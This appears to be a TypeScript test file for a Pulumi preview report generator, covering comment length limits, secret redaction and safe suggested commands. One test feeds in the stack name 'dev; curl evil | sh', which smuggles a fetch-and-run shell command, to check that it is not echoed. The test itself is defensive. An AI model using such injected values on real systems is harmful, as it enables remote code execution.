import * as aws from "@pulumi/aws";
import * as pulumi from "@pulumi/pulumi";
import * as assert from "node:assert/strict";
import { COMMENT_LENGTH, markdownReport } from "../../../preview/report/markdown";
import { rows, section, stack } from "../../support/comment-report";
import { outcomeIn } from "../../support/markdown-outcomes";
import { outcomeOf } from "../../support/outcome";
import { planOf } from "../../support/preview-program";

describe("the limits of a comment", () => {
  it("is the same for the same plan, and ends below the limit when there is too much to say", () => {
    const large = (): string =>
      markdownReport(
        ["a", "b", "c", "d"].map((name) => outcomeIn(() => "some words of a value ".repeat(8), name, 80)),
        [],
      );
    const report = large();
    assert.equal(report, large());
    assert.ok(report.length <= COMMENT_LENGTH && report.length > COMMENT_LENGTH * 0.8, String(report.length));
    // What matters most is whole or begun in every section; what matters least is named where it is left out.
    for (const name of ["a", "b", "c", "d"]) {
      const text = section(report, name);
      assert.match(text, /^\*\*Data\*\*\n\n- ✗ /);
      assert.match(text, /^… and \d+ more violations$/m);
      assert.doesNotMatch(text, /<summary>Policies: 80 exempt/);
      assert.match(
        text,
        new RegExp(
          `^Left out, all or in part, to fit a comment: [a-z ,]*diagram\\. All of it: \`npm run preview -- --stack ${name}\``,
          "m",
        ),
      );
    }
  });

  it("tells of the refused stacks where there are more than it can tell of", async () => {
    const plan = await stack("dev");
    const outcomes = Array.from({ length: 80 }, (_, index) => outcomeOf({ ...plan, stack: `s${index}` }));
    const report = markdownReport(outcomes, [{ stack: "z", message: "no" }]);
    assert.equal(rows(report).length, 60);
    assert.match(report, /^… and 21 more stacks: `npm run preview -- --all-stacks`$/m);
    assert.match(report, /^### `z`$/m);
  });

  it("has no secret, of an input or an output", async () => {
    const plan = await planOf(() => {
      new aws.ssm.Parameter("parameter", { type: "SecureString", value: pulumi.secret("hunter2") });
      return { password: pulumi.secret("hunter2") };
    });
    const report = markdownReport([outcomeOf(plan)], []);
    assert.match(report, /aws:ssm:Parameter/);
    assert.equal(report.includes("hunter2"), false);
  });

  it("says which project the rest of a report is to be had of", () => {
    const words = (): string => "x".repeat(200);
    const of = (folder: string): string => markdownReport([{ ...outcomeIn(words, "main", 60), folder }], []);
    assert.match(of("account"), /^### `account\/main`$/m);
    assert.match(of("account"), /All of it: `npm run preview -- --project account --stack main`/);
    assert.match(of("a; b"), /All of it: `npm run preview -- --stack main`/);
  });

  it("offers no name to a shell that a shell would take for more", () => {
    const report = markdownReport([outcomeIn(() => "x".repeat(200), "dev; curl evil | sh", 60)], []);
    assert.match(report, /All of it: `npm run preview -- --all-stacks`/);
  });
});
